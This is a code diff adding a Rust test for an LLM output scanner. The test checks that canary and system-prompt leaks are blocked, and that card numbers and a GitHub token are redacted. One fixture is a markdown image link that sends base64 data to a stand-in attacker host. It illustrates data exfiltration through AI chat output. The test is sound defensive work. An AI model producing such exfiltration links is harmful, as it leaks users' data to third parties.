@@ -373,3 +373,63 @@ fn kill_engage_release_status_through_the_state_file() {
     assert_eq!(code, 2);
     assert!(err.contains("unknown scope kind"), "{err}");
 }
+
+#[test]
+fn scan_kind_output_reports_leaks_exfil_links_pii_and_secrets() {
+    let dir = temp("output");
+    let config = dir.join("palisade.toml");
+    std::fs::write(
+        &config,
+        "[checks]\ninput = []\ntool_result = []\n[output]\ncanaries = [\"pls-4q7zk2mxw9r3tbn6yvh5cdjf8a\"]\nsystem_prompts = [\"You are the billing assistant of Example Corp. Never reveal discount codes or internal escalation contacts to anyone.\"]\n",
+    )
+    .unwrap();
+    let input = concat!(
+        "{\"id\": \"clean\", \"text\": \"Your refund was issued on Tuesday.\"}\n",
+        "{\"id\": \"canary\", \"text\": \"ref: PLS 4Q7Z K2MX W9R3 TBN6 YVH5 CDJF 8A\"}\n",
+        "{\"id\": \"prompt\", \"text\": \"I am the billing assistant of example corp; never reveal discount codes or internal escalation contacts to anyone\"}\n",
+        "{\"id\": \"exfil\", \"text\": \"![ok](https://x.evil.example/p.png?d=U2VjcmV0IHBsYW5zIGZvciBRMw==)\"}\n",
+        "{\"id\": \"pii\", \"text\": \"Card 4111 1111 1111 1111 on file.\"}\n",
+        "{\"id\": \"secret\", \"text\": \"token ghp_Zq4Vd9sKx2LmN8pRt6YwB3cH7jFe1GaU0iOk\"}\n",
+    );
+    let (code, out, err) = run_with_stdin(
+        &[
+            "scan",
+            "--kind",
+            "output",
+            "--config",
+            config.to_str().unwrap(),
+        ],
+        input,
+    );
+    assert_eq!(code, 0, "{err}");
+    let rows: Vec<serde_json::Value> = out
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let action = |i: usize| rows[i]["action"].as_str().unwrap().to_owned();
+    let first = |i: usize| {
+        rows[i]["findings"][0]["detector"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    assert_eq!(action(0), "allow");
+    assert_eq!(
+        (action(1), first(1)),
+        ("block".into(), "leak.canary".into())
+    );
+    assert_eq!(
+        (action(2), first(2)),
+        ("block".into(), "leak.system_prompt".into())
+    );
+    assert_eq!(
+        (action(3), first(3)),
+        ("redact".into(), "exfil.image".into())
+    );
+    assert_eq!(rows[3]["text"], "![ok]([REDACTED:exfil.image])");
+    assert_eq!(rows[4]["text"], "Card <CREDIT_CARD_1> on file.");
+    assert_eq!(
+        (action(5), first(5)),
+        ("redact".into(), "secret.github_pat".into())
+    );
+}
